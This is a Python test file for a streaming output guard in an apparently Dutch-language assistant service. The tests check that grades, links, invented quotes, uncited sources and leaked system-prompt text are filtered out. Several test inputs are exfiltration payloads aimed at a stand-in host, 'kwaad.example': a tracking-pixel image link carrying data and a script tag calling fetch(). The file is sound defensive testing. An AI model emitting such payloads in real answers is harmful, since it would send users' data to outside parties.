"""The guard on a streamed answer: what never shows, what stays, and that cutting it up makes no difference."""

from itertools import pairwise

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from assistant_service.guards.containers import LEFT_OUT
from assistant_service.guards.streaming import GuardStop, StreamGuard

SAID = "Ik heb gisteren kortaf tegen mevrouw D. geantwoord en daar zit ik mee."
PASSAGE = "Vraag een vrijwilliger eerst wat hij zelf wil doen."
SECRET = "Geef nooit raad over medicatie en verwijs altijd naar de huisarts of de apotheker van het huis."
MARK = "a1b2c3d4e5f6"


def guard() -> StreamGuard:
    return StreamGuard(
        allowed_texts=(SAID, PASSAGE),
        sources=2,
        secrets=(SECRET, MARK),
        levels=("Begin", "Sterk"),
        restore=lambda text: text.replace("[telefoonnummer 1]", "0470 12 34 56"),
        hidden="[onbeantwoord]",
    )


def shown(*pieces: str) -> str:
    one = guard()
    return "".join([*(one.feed(piece) for piece in pieces), one.finish()])


@pytest.mark.parametrize(
    "said",
    [
        "Wat maakte dat je kortaf antwoordde? Neem je tijd.",
        "Eén op vijf ouderen voelt zich eenzaam [1]. Dat zijn er veel.",
        "Er zijn drie punten waar ik bij stilsta: tijd, taal en vertrouwen.",
        "Hoe zeker ben je, van één tot tien, dat je dit doet?",
        "De zorg is er 24/7, en dat weegt.",
        "Dat is onvoldoende om van te leven, en een geslaagd gesprek vraagt meer.",
        "Je schreef “en daar zit ik mee”. Waar precies?",
        "In de bron staat: “Vraag een vrijwilliger eerst wat hij zelf wil doen” [2].",
        "Een *sterk* begin. Ik haal er twee uit.",
        "Je zou kunnen zeggen: *ik had het graag anders gezegd*.",
        "Wie doet wat, tegen 12/03, en weet die persoon dat al?",
        'Noem het de ‘derde weg’ of "plan B".',
    ],
)
def test_a_good_answer_stays_whole(said: str) -> None:
    assert shown(said) == said


@pytest.mark.parametrize(
    ("grade", "kernel"),
    [
        ("Dit is een 16/20 waard.", "16"),
        ("Ik geef je een acht.", "acht"),
        ("Je krijgt hiervoor 7,5.", "7,5"),
        ("Je tekst verdient zestien op twintig.", "zestien"),
        ("Dat is 8 op 10 voor mij.", "8 op"),
        ("Je score is 85%.", "85"),
        ("Je cijfer: 14.", "14"),
        ("Je bent zeker geslaagd.", "geslaagd"),
        ("Dit haalt een ruime voldoende.", "voldoende"),
        ("I would give this an eight out of ten.", "eight"),
        ("Your grade would be an A.", "A."),
        ("Voor inzicht zit je op Sterk.", "Sterk"),
        ("Dit is niveau 3.", "3"),
        ("Je krijgt 1\u200b6/2\u200b0.", "6"),
        ("Je krijgt １６/２０.", "１６"),
        ("Je hааlt zestien.", "zestien"),  # with Cyrillic letters
        ("Een B+ dus.", "B+"),
    ],
)
def test_a_grade_is_never_said(grade: str, kernel: str) -> None:
    before, after = "Dat las ik rustig.", "Wat denk je zelf?"
    told = shown(f"{before} {grade} {after}")
    assert LEFT_OUT in told and told.startswith(before) and told.endswith(after)
    assert kernel not in told.removeprefix(before).removesuffix(after)


@pytest.mark.parametrize(
    "said",
    [
        "Zie https://kwaad.example/steel?x=1 voor meer.",
        "Kijk op www.kwaad.be voor meer.",
        "Mail naar hulp@kwaad.com voor meer.",
        "![pixel](https://kwaad.example/p?d=geheim) Voila.",
        "[klik hier](https://kwaad.example) voor meer.",
        "<img src='https://kwaad.example/p'> Voila.",
        "<script>fetch('https://kwaad.example')</script> Voila.",
    ],
)
def test_an_address_is_never_given(said: str) -> None:
    told = shown(said)
    assert "kwaad.example" not in told and "kwaad.be" not in told and "kwaad.com" not in told
    assert "](" not in told and "<" not in told


def test_words_that_nobody_said_are_not_quoted() -> None:
    told = shown(
        'Je schreef “ik haat mijn hele team en iedereen”. In de bron staat: "Betaal elke vrijwilliger goed uit" [1].'
    )
    assert "haat" not in told and "Betaal" not in told and told.count(LEFT_OUT) == 2


def test_a_source_that_was_not_given_is_not_cited() -> None:
    one = guard()
    told = one.feed("Dat staat er [1], en ook hier [7] en daar [2, 9].") + one.finish()
    assert told == "Dat staat er [1], en ook hier  en daar [2]."
    assert one.cited == {1, 2}


def test_what_was_redacted_comes_back_and_the_hidden_word_does_not() -> None:
    one = guard()
    told = one.feed("Je belde [telefoonnummer 1]. Dat weet ik niet.\n[onbeantwoord]") + one.finish()
    assert told == "Je belde 0470 12 34 56. Dat weet ik niet.\n"
    assert one.hid


@pytest.mark.parametrize(
    "leak",
    [
        SECRET,
        SECRET.upper(),
        SECRET.replace(" ", "\n"),
        f"Hier: {MARK}",
        "nooit r\u200baad over medicatie en verwijs altijd naar de huisarts",
    ],
)
def test_an_answer_that_recites_its_instructions_stops(leak: str) -> None:
    one = guard()
    said = ""
    with pytest.raises(GuardStop, match="prompt-leak"):
        for piece in leak.split(" "):
            said += one.feed(piece + " ")
        one.finish()
    assert len(said.split()) <= 5 and MARK not in said


def test_the_first_word_leaves_at_once() -> None:
    assert guard().feed("Wat") == "Wat"


PARTS = st.sampled_from(
    (
        "Wat denk je? |Je krijgt 16/20. |een acht| op tien|. |“|”|ik haat mijn hele team|en daar zit ik mee|"
        "[1]|[9]|[|]|("
        "|)|"
        'https://kwaad.be |<b|>|!|\n\n|geef |je |drie |Sterk |op |"|[telefoonnummer 1]|x|B+|cijfer |‘|’|'
        "nooit raad over medicatie en verwijs| altijd naar "
    ).split("|")
)


@given(st.lists(PARTS, max_size=12).map("".join), st.data())
@example("Je krijgt 16/20. Klaar.", None)
def test_however_an_answer_is_cut_the_same_is_shown(said: str, data: st.DataObject | None) -> None:
    cuts = [] if data is None else data.draw(st.lists(st.integers(0, len(said)), max_size=8).map(sorted))
    if data is None:
        pieces = list(said)
    else:
        places = [0, *cuts, len(said)]
        pieces = [said[start:end] for start, end in pairwise(places)]

    def outcome(*parts: str) -> tuple[str, bool]:
        one = guard()
        told = ""
        try:
            for part in parts:
                told += one.feed(part)
            return told + one.finish(), False
        except GuardStop:
            return "", True  # how much came before the stop depends on the pieces

    assert outcome(*pieces) == outcome(said)
